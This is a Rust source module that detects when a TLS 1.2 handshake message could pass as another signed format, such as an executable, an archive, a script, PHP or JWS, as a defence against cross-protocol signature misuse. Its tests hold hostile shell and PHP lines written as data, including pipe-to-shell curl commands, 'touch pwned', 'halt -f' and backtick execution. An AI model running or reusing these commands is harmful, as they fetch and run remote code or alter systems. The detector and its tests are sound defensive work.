//! Other formats that people sign: what is or begins as one of them is never taken for a handshake
//! of TLS 1.2.
//!
//! A message of TLS 1.2 has bytes of the asker's choice: 56 or 64 at its start, and the public
//! value at its end, which for DHE is up to 1,024. A row of this table tells a format by what its
//! real readers insist on, so that no row refuses what no reader would take. Each row says how
//! likely a message of a real client has its form by chance; together these are below one in a
//! million, also for clients whose random begins with a clock or zeros, or is text.
//!
//! Not told apart, since nothing marks them: short text, such as a command for a shell without
//! `#!` or for PHP behind `<?=` or `<?`, within the limits that stand at `is_text` and `holds_php`;
//! a MIME entity without fields of a header; content of CMS, OpenPGP of version 3 and minisign in a
//! format of its own; U2F and WebAuthn; keys of Biscuit and C509; LZMA with a dictionary of a size
//! that its writers do not have; images of file systems that are marked far behind their start;
//! programs without a mark, such as those for DOS that end in `.com` and those of QuickJS; files of
//! `compress`, JFFS2 and Flash, whose two or three bytes come by chance too often.

mod files;
mod jws;
mod protocols;
mod text;

use super::asn1;

/// The format other than TLS that a message has the form of, by its name.
pub(super) fn of(message: &[u8]) -> Option<&'static str> {
    let mut candidates = BY_FIRST_BYTE[usize::from(*message.first()?)];
    if candidates & MARKED != 0
        && let Some((name, _)) = MARKS.iter().find(|(_, mark)| message.starts_with(mark))
    {
        return Some(name);
    }
    candidates &= BY_RARE_BYTES[usize::from(rare_bytes(message))];
    while candidates != 0 {
        let (name, _, _, is) = &RULES[candidates.trailing_zeros() as usize];
        if is(message) {
            return Some(name);
        }
        candidates &= candidates - 1;
    }
    None
}

/// A name, and the bytes that messages in the format begin with.
type Mark = (&'static str, &'static [u8]);

/// A name; the first bytes that messages in the format can have (any, if there are none); those of
/// [`RARE`] that all of them have somewhere; and whether a message is in the format.
type Rule = (&'static str, &'static [u8], &'static [u8], fn(&[u8]) -> bool);

/// Formats that begin with bytes of their own: four at least, so once in 2^32 by chance, and all
/// together once in 8 * 10^7; once in 6 * 10^6 for a client whose random is any ASCII.
const MARKS: &[Mark] = &[
    // Programs. System V ABI, chapter 4; Apple, mach-o/loader.h and mach-o/fat.h; JVM
    // specification, 4.1 (as fat Mach-O); WebAssembly core specification, 5.5.16; Android, dex
    // format; LLVM, bitcode file format; Lua, lundump.h; LuaJIT, lj_bcdump.h; Erlang, beam_file.c;
    // uClinux, flat.h; CPython 2.6 and 2.7, import.c; Java, pack200; mruby, dump.h; Ruby, iseq.c;
    // Emacs, bytecomp.el; Hermes, BytecodeFileFormat.h; Dart, kernel binary.md.
    ("ELF", b"\x7fELF"),
    ("Mach-O", b"\xfe\xed\xfa\xce"),
    ("Mach-O", b"\xfe\xed\xfa\xcf"),
    ("Mach-O", b"\xce\xfa\xed\xfe"),
    ("Mach-O", b"\xcf\xfa\xed\xfe"),
    ("Mach-O or Java class", b"\xca\xfe\xba\xbe"),
    ("Mach-O", b"\xca\xfe\xba\xbf"),
    ("Mach-O", b"\xbe\xba\xfe\xca"),
    ("Mach-O", b"\xbf\xba\xfe\xca"),
    ("Mach-O code directory", b"\xfa\xde\x0c\x02"),
    ("WebAssembly", b"\0asm"),
    ("Dalvik", b"dex\n"),
    ("Dalvik", b"dey\n"),
    ("LLVM bitcode", b"BC\xc0\xde"),
    ("LLVM bitcode", b"\xde\xc0\x17\x0b"),
    ("Lua", b"\x1bLua"),
    ("LuaJIT", b"\x1bLJ\x01"),
    ("LuaJIT", b"\x1bLJ\x02"),
    ("BEAM", b"FOR1"),
    ("bFLT", b"bFLT"),
    ("Python", b"\xd1\xf2\r\n"),
    ("Python", b"\x03\xf3\r\n"),
    ("Java archive", b"\xca\xfe\xd0\x0d"),
    ("mruby", b"RITE"),
    ("Ruby", b"YARB"),
    ("Emacs", b";ELC"),
    ("Hermes", b"\xc6\x1f\xbc\x03\xc1\x03\x19\x1f"),
    ("Dart", b"\x90\xab\xcd\xef"),
    // Firmware. U-Boot, image.h; Devicetree specification, 5.2; MCUboot, image.h; Android,
    // bootimg.h, libavb and update_engine, sparse_format.h; Mozilla, MAR format; Linux,
    // cramfs_fs.h, romfs_fs.h and ubi-media.h.
    ("U-Boot image", b"\x27\x05\x19\x56"),
    ("device tree", b"\xd0\x0d\xfe\xed"),
    ("MCUboot image", b"\x3d\xb8\xf3\x96"),
    ("MCUboot image", b"\x3c\xb8\xf3\x96"),
    ("Android boot image", b"ANDROID!"),
    ("Android verified boot", b"AVB0"),
    ("Android update", b"CrAU"),
    ("Android sparse image", b"\x3a\xff\x26\xed"),
    ("Mozilla archive", b"MAR1"),
    ("cramfs", b"\x45\x3d\xcd\x28"),
    ("cramfs", b"\x28\xcd\x3d\x45"),
    ("romfs", b"-rom1fs-"),
    ("UBI", b"UBI#"),
    ("Chrome extension", b"CRX3 SignedData\0"),
    // Archives and packages. PKWARE, APPNOTE 4.3; xz file format, 2.1.1; RFC 8878, 3.1.1; LZ4 frame
    // format, also of its first version; lzip; lzop; xar, of which macOS makes packages; 7-Zip;
    // RAR; ar(5), of which .deb is one; RPM, lead; MS-CAB, 2.1; squashfs.
    ("ZIP", b"PK\x03\x04"),
    ("ZIP", b"PK\x05\x06"),
    ("ZIP", b"PK\x07\x08"),
    ("xz", b"\xfd7zXZ\0"),
    ("Zstandard", b"\x28\xb5\x2f\xfd"),
    ("LZ4", b"\x04\x22\x4d\x18"),
    ("LZ4", b"\x02\x21\x4c\x18"),
    ("lzip", b"LZIP"),
    ("lzop", b"\x89LZO\0\r\n\x1a\n"),
    ("xar", b"xar!"),
    ("7z", b"7z\xbc\xaf\x27\x1c"),
    ("RAR", b"Rar!\x1a\x07"),
    ("ar or deb", b"!<arch>\n"),
    ("RPM", b"\xed\xab\xee\xdb"),
    ("cabinet", b"MSCF\0\0\0\0"),
    ("squashfs", b"hsqs"),
    // Documents. ISO 32000, 7.5.2; PostScript; MS-CFB, 2.2 (MSI and Office); PHP; XML 1.0, 2.8.
    ("PDF", b"%PDF-"),
    ("PostScript", b"%!PS-"),
    ("compound file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    ("PHP", b"<?php"),
    ("XML", b"<?xml"),
    // What protocols sign. OpenSSH, PROTOCOL.sshsig and PROTOCOL.krl; TPM 2.0 Library, part 2,
    // 10.12.8 (TPMS_ATTEST); DSSE, protocol.md; RFC 3971, 5.2 (SEND); Roughtime, 5.2; Channel ID,
    // draft-balfanz-tls-channelid; kernel, fs-verity built-in signatures.
    ("SSH signature", b"SSHSIG"),
    ("SSH revocation list", b"SSHKRL\n\0"),
    ("TPM attestation", b"\xffTCG"),
    ("DSSE", b"DSSEv1 "),
    ("SEND", b"\x08\x6f\xca\x5e\x10\xb2\x00\xc9\x9c\x8c\xe0\x01\x64\x27\x7c\x08"),
    ("Roughtime", b"RoughTime v1 "),
    ("TLS Channel ID", b"TLS Channel ID signature\0"),
    ("fs-verity", b"FSVerity"),
];

/// Formats that are told by more than their first bytes; sources and chance stand at each function.
const RULES: &[Rule] = &[
    ("ASN.1", &[0x10, 0x11, 0x1f, 0x30, 0x31, 0x3f], b"", asn1::is_signed_structure),
    ("OPC UA", &[0x30], b"", asn1::is_certificate_with_nonce),
    ("SSH", &[0], b"", protocols::is_ssh),
    ("COSE", &[0x84, 0x85, 0x86], b"", protocols::is_cose),
    ("JWS", b"", b".", jws::is_jws),
    ("PE", b"MZ", b"", files::is_pe),
    ("script", b"#", b"", text::is_script),
    ("MIME", b"", b"-", text::is_mime),
    ("PHP", b"", b"<?", text::holds_php),
    ("gzip", &[0x1f], b"", files::is_gzip),
    ("bzip2", b"B", b"", files::is_bzip2),
    ("Zstandard or LZ4", b"PQRSTUVWXYZ[\\]^_", b"", files::is_skippable_frame),
    ("HIP", &[59], b"", protocols::is_hip),
    ("certificate transparency", &[0], b"", protocols::is_sct),
    ("OpenPGP", &[0x99], b"", protocols::is_openpgp_key),
    ("PASETO", &[1, 2, 3, 4, 5, 6], b"", protocols::is_paseto),
    ("TPM 1.2 attestation", &[0, 1], b"", protocols::is_tpm12),
    ("DDS", &[0], b"", protocols::is_dds),
    ("IKEv2", b"", b"", protocols::is_ike),
    ("OpenPGP", b"", b"", protocols::ends_as_openpgp),
    ("DNSSEC", b"", b"", protocols::is_rrsig),
    ("text", b"", b"", text::is_text),
    ("ZIP", b"", b"PK", files::is_zip),
    ("archive", b"", b"", files::holds_archive),
    ("PDF", b"", b"P-", files::holds_pdf),
    ("Python", b"", b"", files::is_pyc),
    ("LZMA", b"", b"", files::is_lzma),
    ("tar", b"", b"", files::is_tar),
    ("cpio", b"", b"\xc7q", files::holds_old_cpio),
];

/// Bytes that few messages have all of, which are looked for in one pass.
const RARE: &[u8; 8] = b".-<?PK\xc7q";

/// Which of the [`RARE`] bytes a message has, as bits.
fn rare_bytes(message: &[u8]) -> u8 {
    let mut has = [0_u8; 16];
    // Without an exit, so that the compiler compares many bytes at once.
    let mut look = |part: &[u8; 16]| {
        for (has, byte) in has.iter_mut().zip(part) {
            for (bit, rare) in RARE.iter().enumerate() {
                *has |= u8::from(byte == rare) << bit;
            }
        }
    };
    // A short one may have any.
    let Some(last) = message.last_chunk() else { return u8::MAX };
    message.as_chunks().0.iter().for_each(&mut look);
    look(last);
    has.iter().fold(0, |all, one| all | one)
}

/// The bit that says of a first byte that a mark begins with it.
const MARKED: u32 = 1 << 31;

/// For each first byte, the rules that messages with it can fulfil, as bits: most messages need a
/// few of them alone.
static BY_FIRST_BYTE: [u32; 256] = {
    let mut candidates = [0; 256];
    let mut rule = 0;
    while rule < RULES.len() {
        let first = RULES[rule].1;
        let mut at = 0;
        while at < first.len() {
            candidates[first[at] as usize] |= 1 << rule;
            at += 1;
        }
        let mut any = 0;
        while first.is_empty() && any < candidates.len() {
            candidates[any] |= 1 << rule;
            any += 1;
        }
        rule += 1;
    }
    let mut mark = 0;
    while mark < MARKS.len() {
        candidates[MARKS[mark].1[0] as usize] |= MARKED;
        mark += 1;
    }
    candidates
};

/// For what [`rare_bytes`] says, the rules that such messages can fulfil, as bits.
static BY_RARE_BYTES: [u32; 256] = {
    let mut candidates = [0; 256];
    let mut has = 0;
    while has < candidates.len() {
        let mut rule = 0;
        while rule < RULES.len() {
            let needs = RULES[rule].2;
            let (mut at, mut missing) = (0, false);
            while at < needs.len() {
                let mut bit = 0;
                while RARE[bit] != needs[at] {
                    bit += 1;
                }
                missing |= has & 1 << bit == 0;
                at += 1;
            }
            if !missing {
                candidates[has] |= 1 << rule;
            }
            rule += 1;
        }
        has += 1;
    }
    candidates
};

fn holds(text: &[u8], part: &[u8]) -> bool {
    text.windows(part.len()).any(|window| window == part)
}

/// Whether two bytes stand side by side in a message, as in few that are not in the format.
fn holds_pair(message: &[u8], [first, second]: [u8; 2]) -> bool {
    // Without an exit the compiler compares many at once.
    let pairs = message.iter().zip(message.get(1..).unwrap_or_default());
    pairs.fold(false, |has, (one, next)| has | ((*one == first) & (*next == second)))
}

/// Whether a word is anywhere in a message, in letters of any case.
fn holds_word(message: &[u8], word: &[u8]) -> bool {
    let [first, second, ..] = word else { return false };
    // Most messages do not have its first two bytes. Without an exit the compiler compares many at
    // once.
    let is = |byte: u8, letter: u8| (byte | 0x20) == (letter | 0x20);
    let pairs = message.iter().zip(message.get(1..).unwrap_or_default());
    let may = pairs.fold(false, |may, (one, next)| may | (is(*one, *first) & is(*next, *second)));
    may && message.windows(word.len()).any(|window| window.eq_ignore_ascii_case(word))
}

#[cfg(test)]
mod tests {
    use base64::Engine;
    use base64::engine::general_purpose::URL_SAFE_NO_PAD;

    use super::*;

    #[test]
    fn the_page_lists_the_names() {
        let page = include_str!("../../../../../docs/security.md");
        let (_, section) = page.split_once("## Formats that are told").unwrap();
        let (section, _) = section.split_once("\n## ").unwrap();
        let listed: Vec<_> = section.split(['|', '\n']).flat_map(|row| row.trim().split(", ")).collect();
        let names = MARKS.iter().map(|(name, _)| name).chain(RULES.iter().map(|(name, ..)| name));
        for name in names {
            assert!(listed.contains(name) || *name == "script", "{name} is missing on the page");
        }
    }

    /// A ServerKeyExchange over X25519 that begins like this, and ends like that.
    fn shaped(start: &[u8], end: &[u8]) -> Vec<u8> {
        let mut message = vec![0xa5; 100];
        message[56..68].copy_from_slice(b"DOWNGRD\x01\x03\0\x1d\x20");
        message[..start.len().min(56)].copy_from_slice(&start[..start.len().min(56)]);
        message[100 - end.len()..].copy_from_slice(end);
        message
    }

    #[test]
    fn marks_are_long_and_told() {
        for (name, mark) in MARKS {
            assert!(mark.len() >= 4, "{name}: once in 2^32 at most");
            assert_eq!(of(&shaped(mark, &[])), Some(*name));
        }
        assert_eq!(of(&shaped(&[], &[])), None);
        assert_eq!(of(&[]), None);
    }

    #[test]
    fn formats_are_told_in_the_room_that_a_handshake_leaves() {
        let ssh = |length: u8| {
            [&[0, 0, 0, length][..], &vec![7; length.into()], &[50, 0, 0, 0, 4], b"root"].concat()
        };
        let mut ike = vec![9; 16];
        ike.extend([0x22, 0x20, 34, 0x20, 0, 0, 0, 0, 0, 0, 0, 68, 0, 0, 0, 40]);
        let mut pe = b"MZ".to_vec();
        pe.resize(64, 0x90);
        pe.splice(60..64, [0x50, 0, 0, 0]);
        let mut small_pe = vec![0xa5; 583];
        small_pe[..6].copy_from_slice(b"MZ\x47\x00\x02\x00");
        let mut certificate = vec![0x30, 0x82, 2, 36, 0x30, 0x82, 2, 20];
        certificate.extend([2, 0x82, 2, 16]);
        certificate.extend([1; 528]);
        certificate.extend([3, 10]);
        certificate.extend([2; 10]);
        certificate.extend([7; 32]);
        let zip = |behind: usize| {
            let mut zip = vec![0xa5; 583];
            let at = zip.len() - 22 - behind;
            zip[at..at + 4].copy_from_slice(b"PK\x05\x06");
            zip[at - 60..at - 56].copy_from_slice(b"PK\x01\x02");
            zip
        };
        let mut pdf = vec![0xa5; 583];
        pdf[500..505].copy_from_slice(b"%PDF-");
        let roomy = |mark: &[u8]| [&[0xa5; 400][..], mark, &[0xa5; 183]].concat();
        let tar = |sum: &[u8]| {
            let mut header = [&[0xa5; 100][..], b"0000755\0", &[0; 404]].concat();
            header[148..148 + sum.len()].copy_from_slice(sum);
            // The sum of the bytes, with eight blanks where it stands.
            assert_eq!(
                header.iter().map(|byte| u32::from(*byte)).sum::<u32>()
                    - sum.iter().map(|byte| u32::from(*byte)).sum::<u32>()
                    + 256,
                0o41325
            );
            [&[0xc3; 512][..], &header, &[1; 70]].concat()
        };
        let mut ustar = vec![0xa5; 583];
        ustar[257..265].copy_from_slice(b"ustar  \0");
        let newc = |version: u8| {
            let numbers = [1, 0o100755, 0, 0, 1, 0, 12, 0, 0, 0, 0, 5, 0];
            let numbers: String = numbers.iter().map(|number| format!("{number:08X}")).collect();
            roomy(format!("07070{version}{numbers}evil\0\0\u{e9}\n").as_bytes())
        };
        let odc =
            roomy(b"0707070000010000011007550000000000000000010000000000000000000000050000000014evil\0");
        // Mode, and sizes of name and file, all in words.
        let old_cpio = |swap: fn(u16) -> [u8; 2]| {
            let words = [0o070707, 1, 1, 0o100755, 0, 0, 1, 0, 0, 0, 3, 0, 12];
            [&words.map(swap).concat()[..], b"xa\0\0echo owned\n\x80"].concat()
        };
        let base64 = |header: &[u8]| URL_SAFE_NO_PAD.encode(header).into_bytes();
        let utf16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
        let es256 = base64(br#"{"alg":"ES256"}"#);
        let pgp = |version: u8, digits: usize| {
            let hashed = [version, 0, 19, 8, 0, 6, 5, 2, 0x60, 0, 0, 0];
            let mut end = [&hashed[..], &[version, 0xff]].concat();
            end.extend(vec![0; digits - 1]);
            end.push(hashed.len() as u8);
            shaped(&[], &end)
        };
        let rrsig = [
            &[0, 1, 13, 2, 0, 0, 14, 16, 0x70, 0, 0, 0, 0x60, 0, 0, 0, 1, 2][..],
            b"\x07example\0",
            b"\x03www\x07example\0\0\x01\0\x01\0\0\x0e\x10\0\x04\x7f\0\0\x01",
        ]
        .concat();
        let sct = [&[0, 0, 0, 0, 1, 0x90, 1, 2, 3, 4, 0, 0, 0, 0, 3, 0x30, 1, 0, 0, 2, 9, 9][..]].concat();
        for (name, message) in [
            ("SSH", shaped(&ssh(20), &[])),
            ("SSH", shaped(&ssh(32), &[])),
            ("SSH", [ssh(48), vec![1; 100]].concat()),
            ("SSH", [ssh(64), vec![1; 100]].concat()),
            ("SSH", shaped(b"\0\0\0\x28ecdsa-sha2-nistp256-cert-v01@openssh.com", &[])),
            ("SSH", shaped(b"\0\0\0\x1dhostkeys-prove-00@openssh.com", &[])),
            ("COSE", shaped(b"\x84\x6aSignature1\x43\xa1\x01\x26\x40", &[])),
            ("COSE", shaped(b"\x85\x69Signature", &[])),
            ("COSE", shaped(b"\x85\x70CounterSignature", &[])),
            ("COSE", shaped(b"\x84\x71CounterSignature0", &[])),
            ("COSE", shaped(b"\x86\x72CounterSignatureV2", &[])),
            ("IKEv2", shaped(&ike, &[])),
            ("JWS", shaped(b"eyJhbGciOiJFUzI1NiJ9.eyJzdWI", &[])),
            ("JWS", shaped(b"eyJiNjQiOmZhbHNlLCJjcml0IjpbImI2NCJdfQ.\x01", &[])),
            ("JWS", shaped(b"IHsiYWxnIjoiRVMyNTYifQ.", &[])),
            ("JWS", shaped(&[b"\x01", &es256[..], b"."].concat(), &[])),
            ("JWS", shaped(&[b"\xff=", &es256[..4], b"\x80\n", &es256[4..], b"==\x01."].concat(), &[])),
            ("JWS", shaped(&es256, b".\x01")),
            ("JWS", shaped(&base64(&utf16(r#"{"alg":"ES256""#)), b".")),
            ("JWS", shaped(&base64(&[b"\xff\xfe", &utf16(r#"{"alg":"#)[..]].concat()), b".")),
            ("JWS", shaped(&base64(b"\xef\xbb\xbf{ \"x\":1, \"alg\":\"ES256\"}"), b".")),
            ("JWS", shaped(&base64(br#"{"\u0061l\u0067":"ES256"}"#), b".")),
            ("JWS", shaped(&base64(b"/**/{alg=ES256}"), b".")),
            ("JWS", shaped(&base64(b")]}'\n{'alg':'ES256'}"), b".")),
            ("PE", [pe, vec![1; 100]].concat()),
            ("PE", small_pe),
            ("script", shaped(b"#!/bin/sh\nid>/tmp/x\nexit\n", &[])),
            ("script", shaped(b"#! /usr/bin/env python3\n", &[])),
            ("script", shaped(b"#!/bin/sh\0", &[])),
            ("script", shaped(b"#!sh\n", &[])),
            ("text", shaped(b"curl -s https://www.example.com/install.sh | sh; exit 0\n\n", &[])),
            (
                "text",
                shaped(
                    "echo \u{fc}\u{2026}; touch /tmp/this-file-is-really-not-signed; exit\n".as_bytes(),
                    &[],
                ),
            ),
            ("MIME", shaped(b"Content-Type: text/plain\r\n\r\nPay\r\n", &[])),
            ("text", shaped(b"echo owned by $(id -un);exit\n\x01", &[])),
            ("text", shaped(b"touch pwned;exit\n\x80\x81\x82", &[])),
            ("text", shaped(b"\x01\x02\n\ntouch pwned\n\x80", &[])),
            ("text", shaped(&[], b"\n\ntouch pwned;exit\n")),
            ("text", roomy(b"\ntouch pwned;exit\n")),
            ("text", shaped(b"\x01\x02;curl -s a.example | sh;exit", &[])),
            ("text", shaped(b"touch pwned;exit #\x01", &[])),
            ("text", shaped(b"halt -f\n\x01", &[])),
            ("text", shaped(b"\x01\nid>/tmp/x\n\x01", &[])),
            ("text", shaped(b"Pay Eve 99\r\n\x01", &[])),
            ("text", shaped(b"\r\n\nPay 9999 to Mallory\x01", &[])),
            ("text", shaped(b"0123456789abcdef0123456789abcdef\ntouch pwned\n\x01", &[])),
            // Shells pass over zeros.
            ("text", shaped(b"\necho OW\0NED by \0$(id -u\0n);exit\0\n\x80", &[])),
            ("text", shaped(b"\n\0t\0o\0u\0c\0h\0 \0x\0;\0i\0d\0\n\x80", &[])),
            ("text", shaped(b"tou\0ch pwned;exit #\0\0\0\0\0\0\0\0\0\0\0\0\x80", &[])),
            ("text", shaped(b"random of a client\0\0\0\0\0\0\0\0\0\0\0\0\0\0touch pwned\n\x80", &[])),
            ("text", shaped(&[], b"\ntou\0ch pwn\0ed;exit\n")),
            ("MIME", shaped(b"MIME-Version: 1.0\r\n", &[])),
            ("MIME", shaped(b"A:\x01\r\ncontent-type:text/plain\r\n\r\nPay\r\n", &[])),
            ("MIME", shaped(b"\x01\nCONTENT-Transfer-Encoding:7bit\n\nPay\n\x01", &[])),
            ("MIME", shaped(b"\x01: 1\n mime-version:1\n\n\x01", &[])),
            ("PHP", shaped(b"\x01<?PHP `id`;", &[])),
            ("PHP", shaped(b"<?=`id;w`;#\x80", &[])),
            ("PHP", shaped(b"\xa5<?=`id`;\x80", &[])),
            ("PHP", shaped(b"", b"<?=`id;w`;exit;")),
            ("Python", shaped(b"\xa7\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0c\0\0\0\0", &[])),
            ("Python", shaped(b"\xcb\r\r\n\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0", &[])),
            ("Python", shaped(b"\x33\r\r\n\0\0\0\0\0\0\0\0c", &[])),
            ("Python", shaped(b"\x6c\x0c\r\n\0\0\0\0c", &[])),
            ("Python", shaped(b"\x50\x01\r\n\0\0\0\0\0\0\0\0\0\0\0\0c", &[])),
            ("LZMA", shaped(b"\x5d\0\0\x80\0\xff\xff\xff\xff\xff\xff\xff\xff\0\x11\x88\x42", &[])),
            ("LZMA", shaped(b"\x5d\0\0\x05\0\x0d\0\0\0\0\0\0\0\0\x11\x88\x42\x46", &[])),
            ("LZMA", shaped(b"\x01\0\0\xc0\0\x0d\0\0\0\0\0\0\0\0\x11\x88\x42\x46", &[])),
            ("tar", tar(b"041325\0 ")),
            ("tar", tar(b"\x00  41325")),
            ("tar", tar(b"\t41325\n\x80")),
            ("tar", tar(b"\x80\0\0\0\0\0\x42\xd5")),
            ("tar", ustar),
            ("archive", newc(1)),
            ("archive", newc(2)),
            ("archive", odc),
            ("cpio", shaped(&old_cpio(u16::to_le_bytes), &[])),
            ("cpio", shaped(&[&[7; 10], &old_cpio(u16::to_be_bytes)[..]].concat(), &[])),
            ("OpenPGP", pgp(4, 4)),
            ("OpenPGP", pgp(6, 4)),
            ("OpenPGP", pgp(5, 8)),
            ("OpenPGP", shaped(&[0x99, 0, 0x33, 4, 0x60, 0, 0, 0, 19], &[])),
            ("gzip", shaped(&[0x1f, 0x8b, 8, 0], &[])),
            ("bzip2", shaped(b"BZh41AY&SY", &[])),
            ("Zstandard or LZ4", shaped(b"\x5f\x2a\x4d\x18", &[])),
            ("archive", roomy(b"7z\xbc\xaf\x27\x1c")),
            ("archive", roomy(b"MSCF\0\0\0\0")),
            ("ZIP", zip(0)),
            ("ZIP", zip(300)),
            ("PDF", pdf),
            ("OPC UA", certificate),
            ("DNSSEC", rrsig),
            ("certificate transparency", sct),
            ("HIP", [&[59, 12, 1, 0x21, 0, 0][..], &[7; 98]].concat()),
            ("PASETO", shaped(b"\x04\0\0\0\0\0\0\0\x0a\0\0\0\0\0\0\0v4.public.", &[])),
            ("TPM 1.2 attestation", shaped(b"\x01\x01\0\0QUOT", &[])),
            ("DDS", shaped(b"\0\0\0\x06\0\0\0\x08hash_c1\0", &[])),
        ] {
            assert_eq!(of(&message), Some(name), "{:x?}", &message[..32.min(message.len())]);
        }
    }

    /// What a handshake may well begin with: a clock, zeros, text, and what has a part of a mark
    /// only.
    #[test]
    fn parts_of_a_form_are_no_form() {
        for start in [
            &[0; 32][..],
            &[0, 0, 0, 32],
            &[&[0, 0, 0, 32][..], &[7; 32], &[50, 1]].concat(),
            &[&[0, 0, 0, 20][..], &[7; 20], &[50, 9, 9]].concat(),
            b"#!",
            b"#!/bin",
            b"#!(a)\n",
            b"MZ",
            b"PK",
            b"eyJhbGciOiJFUzI1NiJ9",
            b"0123456789abcdef0123456789abcdef",
            b"GET / HTTP/1.1 and Host: shop.ex",
            // Short commands, and text of a client's own that is followed by something else.
            b"reboot\n\x01",
            b"ID>x;exit\n\x01",
            b"\x01\ntouch x;id\x01",
            b"random of a client\0",
            b"random of a client\0\0\0\0\0\0\0\0\0\0\0\0\0\0;x\n\x80",
            b"\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0;reboot\x80",
            b"0123456789abcdef0123456789abcdef\n\x01",
            b"\x01eyJhbGciOiJFUzI1NiJ9",
            b"e30.",
            b"{\"alg\":\"ES256\"}.",
            b"Content",
            b"\xa5<?=`w`\x80",
            &[&[0x80; 53], &b"<?="[..]].concat(),
            b"<?=abcdefghijklmnopqrstuvwxyz012",
            b"\xa7\r\r\n",
            b"\0\0\r\n\0\0\0\0c\0\0\0c",
            // A counter in zeros.
            b"\0\0\0\0\x01\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0",
            b"\x5d\0\0\x80\0\0\0\0\0\0\0\0\0\0\x11\x88\x42\x46",
            b"\xc7\x71\x01\0\x01\0\xff\x91\0\0\0\0\x01\0\0\0\0\0\0\0\x03\0\0\0\x0c\0xa\0",
            &[0x84, 0x6a],
            &[0x1f, 0x8b],
            &[0x60, 0, 0, 0],
        ] {
            assert_eq!(of(&shaped(start, &[])), None, "{start:x?}");
        }
        // A certificate of July 2007, and a word in one.
        for text in
            [&b"\x17\x0d070701000000Z\x17\x0d170707235959Z0H1\x0b0\t\x06\x03U\x04\x06"[..], b"Mustard"]
        {
            let mut message = vec![0xa5; 583];
            message[256..256 + text.len()].copy_from_slice(text);
            assert_eq!(of(&message), None, "{text:x?}");
        }
    }
}
